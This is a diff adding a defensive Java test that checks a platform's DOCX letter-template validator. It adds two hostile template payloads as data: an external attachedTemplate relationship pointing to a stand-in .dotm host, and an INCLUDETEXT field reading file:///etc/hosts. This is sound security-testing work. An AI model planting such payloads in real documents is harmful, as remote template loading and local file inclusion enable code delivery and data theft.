@@ -14,13 +14,18 @@ import gongkai.platform.request.procedure.RequestState;
 import gongkai.platform.request.procedure.Step;
 import gongkai.platform.sample.SampleData;
 import java.awt.image.BufferedImage;
+import java.io.ByteArrayInputStream;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
+import java.nio.charset.StandardCharsets;
 import java.time.LocalDate;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Objects;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipInputStream;
+import java.util.zip.ZipOutputStream;
 import javax.imageio.IIOImage;
 import javax.imageio.ImageIO;
 import org.apache.pdfbox.Loader;
@@ -258,6 +263,41 @@ class LettersAttackTest {
         assertThat(receipts.getFirst().content().values())
                 .containsEntry("查询码", code)
                 .containsKey("答复届满日");
+    }
+
+    @Test
+    void aTemplateThatFetchesSomethingFromElsewhereIsNotTaken() throws IOException {
+        var templates = platform.bean(Templates.class);
+        var ours = templates.file(LetterKind.CORRECTION_NOTICE, null).bytes();
+        assertThat(templates.objections(LetterKind.CORRECTION_NOTICE, ours)).isEmpty();
+        var relation =
+                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\""
+                        + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
+                        + " Target=\"http://example.invalid/x.dotm\" TargetMode=\"External\"/></Relationships>";
+        var field = "<w:hdr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:p><w:r>"
+                + "<w:instrText>INCLUDETEXT \"file:///etc/hosts\"</w:instrText></w:r></w:p></w:hdr>";
+        for (var part :
+                List.of(Map.entry("word/_rels/settings.xml.rels", relation), Map.entry("word/header9.xml", field))) {
+            assertThat(templates.objections(LetterKind.CORRECTION_NOTICE, with(ours, part)))
+                    .as(part.getKey())
+                    .anyMatch(objection -> objection.contains("引用了外部"));
+        }
+    }
+
+    private static byte[] with(byte[] docx, Map.Entry<String, String> added) throws IOException {
+        var out = new ByteArrayOutputStream();
+        try (var read = new ZipInputStream(new ByteArrayInputStream(docx));
+                var written = new ZipOutputStream(out)) {
+            for (var entry = read.getNextEntry(); entry != null; entry = read.getNextEntry()) {
+                if (!entry.getName().equals(added.getKey())) {
+                    written.putNextEntry(new ZipEntry(entry.getName()));
+                    read.transferTo(written);
+                }
+            }
+            written.putNextEntry(new ZipEntry(added.getKey()));
+            written.write(added.getValue().getBytes(StandardCharsets.UTF_8));
+        }
+        return out.toByteArray();
     }
 
     private DisclosureRequest answered() {
